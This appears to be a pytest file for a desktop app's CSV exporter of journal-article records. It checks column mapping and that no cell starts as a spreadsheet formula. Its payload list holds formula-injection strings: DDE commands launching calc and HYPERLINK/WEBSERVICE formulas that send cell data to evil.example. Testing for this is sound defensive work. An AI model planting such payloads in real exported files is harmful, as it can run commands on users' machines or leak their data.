"""CSV tables: every cell in its column, and none of them a formula."""

import csv
from collections.abc import Callable, Iterable
from io import StringIO
from typing import TextIO

import pytest

from desktop_app.exporters.csv_table import COLUMNS, write_csv, write_raw_csv
from desktop_app.exporters.plain_text import one_line
from desktop_app.records import Article, Author, Journal, Keyword, Section
from tests.exporters.hostile_articles import CROWDED, HOSTILE
from tests.library.examples import FULL

Write = Callable[[Iterable[Article], TextIO], None]

_ACTIONS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "IMPORTXML(CONCAT(A1),A2)",
    'WEBSERVICE("http://evil.example")',
    "SUM(A1:A9)",
    "2+5+cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "A1",
    "5",
)
_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "\x00=")
PAYLOADS = [start + action for start in _STARTS for action in _ACTIONS]


def read(articles: Iterable[Article], write: Write = write_csv) -> list[dict[str, str]]:
    out = StringIO(newline="")
    write(articles, out)
    return list(csv.DictReader(StringIO(out.getvalue(), newline=""), strict=True))


def test_everything_has_its_column() -> None:
    (row,) = read([FULL])
    assert {name: value for name, value in row.items() if value} == {
        "PMID": "101",
        "PMCID": "PMC7001",
        "DOI": "10.1000/example.101",
        "Title": FULL.title,
        "Authors": "Smith, Jane A, Jr; The Mouse Group",
        "Journal": "Journal of Examples",
        "Journal abbreviation": "J Ex",
        "ISSN": "1234-5678",
        "Year": "2021",
        "Date": "2021-03",
        "Printed date": "2021 Mar-Apr",
        "Volume": "12",
        "Issue": "3-4",
        "Pages": "101-9",
        "Kind": "article",
        "Publication types": "Journal Article",
        "Languages": "eng; fre",
        "Abstract": "BACKGROUND: We asked why. METHODS: Mice were fed. "
        "RESULTS: Glucose rose (p<0.05).",
        "MeSH": "*Insulin Resistance/*genetics; Mice; Unlisted Heading/x/y",
        "Major MeSH": "Insulin Resistance",
        "Keywords": "metabolism",
        "Substances": "0 (Interleukin-6); 0 (Y)",
        "Vernacular title": "Résistance à l'insuline",
        "Other abstracts": "plain-language-summary (fre): Pour tous.",
        "Affiliations": "A; B",
        "ORCID": "Smith, Jane A, Jr: 0000-0002-1825-0097",
        "Other identifiers": "pii: S1",
        "Relations": "ErratumIn: J Ex 2022 see there PMID: 102",
        "References": "PMID 55; Roe 2000",
        "History": "received 2020-01-02; record-revised 2022-05-06",
        "Country": "England",
        "NLM journal": "0001",
        "Copyright": "© The authors",
        "Status": "MEDLINE",
        "Other fields": "publisher: Example Press; note: read this",
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula(payload: str) -> None:
    article = Article(
        title=payload,
        volume=payload,
        doi=payload,
        sections=(Section(payload),),
        journal=Journal(payload, payload, payload, payload, payload),
        authors=(Author(payload, payload, affiliations=(payload,)), Author(collective=payload)),
        keywords=(Keyword(payload),),
        languages=(payload,),
        status=payload,
        kind=payload,
    )
    (row,) = read([article])
    assert row["Title"] == f"'{one_line(payload)}"
    assert not [cell for cell in row.values() if cell[:1] in set("=+-@＝＋－＠\t\r\n")]
    (raw,) = read([article], write_raw_csv)
    assert raw["Title"] == one_line(payload)


def test_there_are_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 100


def test_hostile_text_stays_in_its_cell() -> None:
    rows = read(HOSTILE, write_raw_csv)
    assert len(rows) == len(HOSTILE)
    for article, row in zip(HOSTILE, rows, strict=True):
        assert list(row) == list(COLUMNS)
        assert row["Title"] == one_line(article.title)
        assert row["PMID"] == str(article.pmid or "")
    assert read([CROWDED])[0]["Authors"].count(";") == 2_999


def test_a_table_of_nothing_has_a_header() -> None:
    out = StringIO(newline="")
    write_csv([], out)
    assert out.getvalue() == ",".join(COLUMNS) + "\r\n"
